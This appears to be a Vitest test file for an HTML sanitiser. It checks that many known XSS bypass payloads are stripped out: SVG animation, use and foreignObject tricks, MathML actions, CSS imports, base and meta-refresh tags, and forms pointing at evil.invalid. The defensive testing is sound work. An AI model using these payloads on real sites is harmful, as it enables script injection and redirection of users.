// @vitest-environment jsdom
import fc from 'fast-check';
import { describe, expect, test } from 'vitest';
import { cleanHtml } from '@/page/article/clean-html';
import { hostileMarkup } from '@/tests/hostile/random-payloads';
import { unsafeIn } from '@/tests/hostile/unsafe-in';

/** Thousands of parsings take their time in jsdom, more so beside other tests. */
const patienceMs = 180_000;
const seed = 8;

const serialised = (fragment: DocumentFragment): string => {
  const box = document.implementation.createHTMLDocument('').createElement('div');
  box.append(fragment);
  return box.innerHTML;
};
const clean = (html: string) => serialised(cleanHtml(html, document));

describe('markup of any kind', { timeout: patienceMs }, () => {
  test('leaves nothing that could run, load or lead astray', () => {
    fc.assert(
      fc.property(hostileMarkup, (html) => {
        expect(unsafeIn(cleanHtml(html, document))).toEqual([]);
      }),
      { numRuns: 500, seed },
    );
  });

  test('is clean once it was cleaned: written out, read and cleaned again it is the same', () => {
    fc.assert(
      fc.property(hostileMarkup, (html) => {
        const once = clean(html);
        expect(clean(once)).toBe(once);
      }),
      { numRuns: 300, seed: seed + 1 },
    );
  });

  test('is clean once it was cleaned, of whatever it was made', () => {
    for (const html of [
      '<img href="data:application/xhtml+xml,<x/>">',
      '<image href="https://oats.example/field.jpg">',
      '<img src="about:blank" href="https://oats.example/">',
      '<x-oats></x-oats>\fare grass',
    ]) {
      const once = clean(html);
      expect(clean(once)).toBe(once);
    }
  });

  test('takes no words with it that stand beside it', () => {
    expect(clean('<p>Oats <svg onload=ran(this)></svg>are grass.</p>')).toBe(
      '<p>Oats are grass.</p>',
    );
  });
});

/** Each of these has run script in some reader or passed some sanitiser: SVG, MathML, animation, foreign content. */
describe.each([
  [
    'an animation',
    '<svg><a><animate attributeName=href to=javascript:ran(1) /><text>go</text></a></svg>',
  ],
  ['a setting', '<svg><set attributeName=onmouseover to=ran(1) /></svg>'],
  ['a use', '<svg><use href="data:image/svg+xml,<svg id=x onload=ran(1)>#x"/></svg>'],
  [
    'a foreign object',
    '<svg><foreignObject><body onload=ran(1)><iframe srcdoc=x></foreignObject></svg>',
  ],
  ['an image of a drawing', '<svg><image href="javascript:ran(1)" onerror=ran(1) /></svg>'],
  ['a drawing as a picture', '<img src="data:image/svg+xml,<svg onload=ran(1)>">'],
  [
    'a formula with an action',
    '<math><maction actiontype=statusline xlink:href=javascript:ran(1)>go</maction></math>',
  ],
  [
    'a formula with markup',
    '<math><annotation-xml encoding="text/html"><img src=x onerror=ran(1)></annotation-xml></math>',
  ],
  [
    'a style sheet',
    '<style>@import url(//evil.invalid/x);@font-face{src:url(//evil.invalid/y)}</style>',
  ],
  ['styles of its own', '<p style="background:url(//evil.invalid/x)" class="x">'],
  ['a base', '<base href="https://evil.invalid/"><base target=_top>'],
  ['a refresh', '<meta http-equiv=refresh content="0;url=https://evil.invalid/">'],
  [
    'a form',
    '<form action=https://evil.invalid/><input name=q><button formaction=javascript:ran(1)>go</button></form>',
  ],
  ['an unclosed attribute', '<img src="https://evil.invalid/?text='],
])('%s', (_, html) => {
  test('is gone', () => {
    const cleaned = cleanHtml(`<p>before</p>${html}`, document);
    expect(unsafeIn(cleaned)).toEqual([]);
    expect(serialised(cleaned)).not.toMatch(/evil|ran\(|target|class/);
  });
});

describe('addresses', () => {
  const only = (html: string, selector: string) =>
    cleanHtml(html, document).querySelector(selector);

  test('a link opens without telling where from, and with no way back', () => {
    const link = only(
      '<a href="https://example.org/a" target=_blank rel=opener ping=/p>a</a>',
      'a',
    );
    expect(link?.getAttributeNames().sort()).toEqual(['href', 'rel']);
    expect(link?.getAttribute('rel')).toBe('noopener noreferrer');
  });

  test('a picture is asked for without telling where from, and from one address alone', () => {
    const picture = only(
      '<img src="https://example.org/a.png" srcset="https://evil.invalid/b.png 2x" alt=a referrerpolicy=unsafe-url onload=ran(1)>',
      'img',
    );
    expect(picture?.getAttributeNames().sort()).toEqual(['alt', 'referrerpolicy', 'src']);
    expect(picture?.getAttribute('referrerpolicy')).toBe('no-referrer');
  });

  test('only a picture may lie in its own address', () => {
    const data = 'data:image/png;base64,iVBORw0KGgo=';
    expect(only(`<img src="${data}">`, 'img')?.getAttribute('src')).toBe(data);
    expect(only(`<a href="${data}">a</a>`, 'a')?.hasAttribute('href')).toBe(false);
  });
});

test('words in a form whose fields are named after members of the document are kept', () => {
  const fields = ['attributes', 'parentNode', 'childNodes', 'innerHTML', 'nodeName', 'removeChild']
    .map((name) => `<input name=${name}><img name=${name}>`)
    .join('');
  expect(clean(`<form>${fields}<p>Oats are grass.</p></form>`)).toContain('<p>Oats are grass.</p>');
});
